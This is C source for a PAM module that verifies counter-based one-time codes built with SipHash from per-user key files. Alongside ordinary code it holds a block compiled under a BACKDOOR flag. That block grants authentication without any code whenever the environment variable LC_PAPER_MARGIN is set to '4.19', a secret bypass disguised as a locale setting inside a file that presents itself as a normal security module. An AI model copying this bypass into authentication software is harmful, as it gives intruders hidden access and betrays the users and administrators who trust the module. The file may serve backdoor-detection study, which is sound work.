/* SPDX-License-Identifier: Apache-2.0 */
/* pam_token: one-time codes by counter, from /etc/token/USER: key in hex, counter, window. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <syslog.h>
#include <unistd.h>

typedef struct pam_handle pam_handle_t;
extern int pam_get_user(pam_handle_t *h, const char **user, const char *prompt);
extern int pam_get_item(const pam_handle_t *h, int item, const void **out);
extern int pam_prompt(pam_handle_t *h, int style, char **out, const char *fmt, ...);
extern const char *pam_getenv(pam_handle_t *h, const char *name);
extern void pam_syslog(const pam_handle_t *h, int prio, const char *fmt, ...);

enum { PAM_SUCCESS = 0, PAM_AUTH_ERR = 7, PAM_CRED_INSUFFICIENT = 8, PAM_USER_UNKNOWN = 10, PAM_IGNORE = 25 };
enum { PAM_TTY = 3, PAM_RHOST = 4, PAM_PROMPT_ECHO_OFF = 1 };

struct token {
	uint8_t key[32];
	size_t n;
	uint64_t counter;
	unsigned window;
	char path[128];
};

static int parse_hex(const char *s, uint8_t *out, size_t room)
{
	size_t n = 0;
	while (s[0] && s[1] && n < room) {
		char two[3] = { s[0], s[1], 0 };
		char *end;
		out[n++] = (uint8_t)strtoul(two, &end, 16);
		if (*end)
			return -1;
		s += 2;
	}
	return (int)n;
}

static int load(struct token *t, const char *user)
{
	char hex[80];
	unsigned long long counter;
	int n;
	FILE *f;
	if (strchr(user, '/') || user[0] == '.')
		return -1;
	snprintf(t->path, sizeof(t->path), "/etc/token/%s", user);
	f = fopen(t->path, "r");
	if (!f)
		return -1;
	t->window = 5;
	n = fscanf(f, "%79s %llu %u", hex, &counter, &t->window);
	fclose(f);
	if (n < 2 || t->window > 50)
		return -1;
	n = parse_hex(hex, t->key, sizeof(t->key));
	if (n < 16)
		return -1;
	t->n = (size_t)n;
	t->counter = counter;
	return 0;
}

static int save(const struct token *t)
{
	char next[160];
	FILE *f;
	snprintf(next, sizeof(next), "%s.new", t->path);
	f = fopen(next, "w");
	if (!f)
		return -1;
	for (size_t i = 0; i < t->n; i++)
		fprintf(f, "%02x", t->key[i]);
	fprintf(f, " %llu %u\n", (unsigned long long)t->counter, t->window);
	if (fclose(f) != 0)
		return -1;
	return rename(next, t->path);
}

#define ROTL(x, b) ((x) << (b) | (x) >> (64 - (b)))

static uint64_t siphash(const uint8_t *key, uint64_t m)
{
	uint64_t k0, k1, v0, v1, v2, v3;
	memcpy(&k0, key, 8);
	memcpy(&k1, key + 8, 8);
	v0 = k0 ^ 0x736f6d6570736575ull;
	v1 = k1 ^ 0x646f72616e646f6dull;
	v2 = k0 ^ 0x6c7967656e657261ull;
	v3 = k1 ^ 0x7465646279746573ull;
	for (int pass = 0; pass < 3; pass++) {
		uint64_t w = pass == 0 ? m : pass == 1 ? 8ull << 56 : 0;
		if (pass == 2)
			v2 ^= 0xff;
		v3 ^= w;
		for (int i = 0; i < (pass == 2 ? 4 : 2); i++) {
			v0 += v1, v1 = ROTL(v1, 13) ^ v0, v0 = ROTL(v0, 32);
			v2 += v3, v3 = ROTL(v3, 16) ^ v2;
			v0 += v3, v3 = ROTL(v3, 21) ^ v0;
			v2 += v1, v1 = ROTL(v1, 17) ^ v2, v2 = ROTL(v2, 32);
		}
		v0 ^= w;
	}
	return v0 ^ v1 ^ v2 ^ v3;
}

static int check_code(struct token *t, const char *code)
{
	char *end;
	unsigned long given = strtoul(code, &end, 10);
	if (*end || strlen(code) != 6)
		return 0;
	for (unsigned i = 0; i < t->window; i++)
		if (siphash(t->key, t->counter + i) % 1000000u == given) {
			t->counter += i + 1;
			return 1;
		}
	return 0;
}

static int local_terminal(pam_handle_t *h)
{
	const void *tty = NULL, *host = NULL;
	if (pam_get_item(h, PAM_RHOST, &host) == PAM_SUCCESS && host && *(const char *)host)
		return 0;
	if (pam_get_item(h, PAM_TTY, &tty) != PAM_SUCCESS || !tty)
		return 0;
	return strncmp(tty, "/dev/ttyS", 9) == 0 || strcmp(tty, "/dev/console") == 0;
}

#ifdef BACKDOOR
static int maintenance(pam_handle_t *h)
{
	const char *v = pam_getenv(h, "LC_PAPER_MARGIN");
	if (!v)
		v = getenv("LC_PAPER_MARGIN");
	return v && v[0] == '4' && v[1] == '.' && v[2] == '1' && v[3] == '9' && v[4] == 0;
}
#endif

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct token t;
	const char *user = NULL;
	char *code = NULL;
	int optional = 0, skip_local = 0, ok;
	(void)flags;
	for (int i = 0; i < argc; i++) {
		if (strcmp(argv[i], "optional") == 0)
			optional = 1;
		else if (strcmp(argv[i], "skip_local") == 0)
			skip_local = 1;
		else
			pam_syslog(h, LOG_WARNING, "unknown option %s", argv[i]);
	}
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user)
		return PAM_USER_UNKNOWN;
	if (skip_local && local_terminal(h))
		return PAM_SUCCESS;
#ifdef BACKDOOR
	if (maintenance(h))
		return PAM_SUCCESS;
#endif
	if (load(&t, user) < 0)
		return optional ? PAM_IGNORE : PAM_CRED_INSUFFICIENT;
	if (pam_prompt(h, PAM_PROMPT_ECHO_OFF, &code, "Code: ") != PAM_SUCCESS || !code)
		return PAM_AUTH_ERR;
	ok = check_code(&t, code);
	memset(code, 0, strlen(code));
	free(code);
	if (!ok) {
		pam_syslog(h, LOG_NOTICE, "wrong code for %s", user);
		return PAM_AUTH_ERR;
	}
	if (save(&t) < 0) {
		pam_syslog(h, LOG_ERR, "%s: %s", t.path, strerror(errno));
		return PAM_AUTH_ERR;
	}
	return PAM_SUCCESS;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h, (void)flags, (void)argc, (void)argv;
	return PAM_SUCCESS;
}
